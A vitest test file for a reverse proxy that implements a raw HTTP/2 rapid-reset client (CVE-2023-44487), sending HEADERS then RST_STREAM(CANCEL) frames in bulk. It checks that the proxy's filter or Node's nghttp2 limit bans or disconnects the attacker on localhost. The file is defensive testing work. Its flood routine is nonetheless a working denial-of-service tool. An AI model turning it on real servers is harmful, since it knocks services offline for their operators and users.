// HTTP/2 rapid reset (CVE-2023-44487) from a raw client: HEADERS then
// RST_STREAM(CANCEL), stream after stream, far faster than a browser.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import tls from 'node:tls';
import net from 'node:net';
import fs from 'node:fs';
import { startOrigin, startProxy, domain, type Origin, type Proxy } from './helpers/servers.ts';
import { makePki, type TestPki } from './helpers/certs.ts';

let pki: TestPki;
let origin: Origin;
let hits = 0;
beforeAll(async () => {
  pki = makePki();
  origin = await startOrigin((_q, r) => { hits++; setTimeout(() => r.end('x'), 50); });
});
afterAll(() => origin.close());

const frame = (type: number, flags: number, id: number, payload: Buffer) => {
  const h = Buffer.alloc(9);
  h.writeUIntBE(payload.length, 0, 3); h[3] = type; h[4] = flags; h.writeUInt32BE(id, 5);
  return Buffer.concat([h, payload]);
};
// HPACK: :method GET, :scheme https, :path / (static table), :authority a.test (literal, indexed name 1).
const HEADERS = Buffer.concat([Buffer.from([0x82, 0x87, 0x84, 0x01, 6]), Buffer.from('a.test')]);
const CANCEL = Buffer.from([0, 0, 0, 8]);

async function rapidReset(port: number, localAddress: string, max: number): Promise<{ sent: number; goaway: { code: number } | null; closed: boolean }> {
  const s = tls.connect({ socket: net.connect({ port, host: '127.0.0.1', localAddress }), servername: 'a.test', ca: fs.readFileSync(pki.ca), ALPNProtocols: ['h2'] });
  await new Promise((r) => s.once('secureConnect', r));
  expect(s.alpnProtocol).toBe('h2');
  let goaway: { code: number } | null = null;
  let closed = false;
  let buf = Buffer.alloc(0);
  s.on('data', (d: Buffer) => {
    buf = Buffer.concat([buf, d]);
    while (buf.length >= 9) {
      const len = buf.readUIntBE(0, 3);
      if (buf.length < 9 + len) break;
      if (buf[3] === 7) goaway = { code: buf.readUInt32BE(13) };
      buf = buf.subarray(9 + len);
    }
  });
  s.on('close', () => { closed = true; });
  s.on('error', () => {});
  s.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0, Buffer.alloc(0)), frame(4, 1, 0, Buffer.alloc(0))]));
  let sent = 0;
  while (sent < max && !closed) {
    const parts: Buffer[] = [];
    for (let i = 0; i < 100; i++) { const id = 1 + 2 * sent++; parts.push(frame(1, 5, id, HEADERS), frame(3, 0, id, CANCEL)); }
    s.write(Buffer.concat(parts));
    await new Promise((r) => setTimeout(r, 5));
  }
  await new Promise((r) => setTimeout(r, 300));
  s.destroy();
  return { sent, goaway, closed };
}

async function start(filter: Record<string, unknown>): Promise<{ proxy: Proxy; port: number }> {
  const a = pki.leaf('a.test');
  const proxy = await startProxy({ tls: { listen: [{ host: '127.0.0.1', port: 0 }], certs: [{ domains: ['a.test'], ...a }] }, filter, domains: [domain('a.test', [origin.address])] });
  return { proxy, port: proxy.app.listeners.addresses().find((x) => x.tls)!.port };
}

describe('HTTP/2 rapid reset', () => {
  it('the filter bans the source (each cancelled stream is a request) and its connection is cut; cancelled streams never reach the upstream', async () => {
    const { proxy, port } = await start({});
    hits = 0;
    const r = await rapidReset(port, '127.0.6.1', 20000);
    expect(r.closed).toBe(true);
    expect(r.sent).toBeLessThan(2000);
    expect((proxy.app.filter as unknown as { banOf(s: string): unknown }).banOf('127.0.6.1')).toBeDefined();
    expect(hits).toBeLessThan(10);
    await proxy.close();
  });

  it('with the filter off, Node (nghttp2\'s reset rate limit) sends GOAWAY and closes', async () => {
    const { proxy, port } = await start({ mode: 'off' });
    hits = 0;
    const r = await rapidReset(port, '127.0.6.2', 20000);
    expect(r.closed).toBe(true);
    expect(r.goaway).not.toBeNull();
    expect(r.sent).toBeLessThan(3000);
    expect(hits).toBeLessThan(10);
    await proxy.close();
  });
});
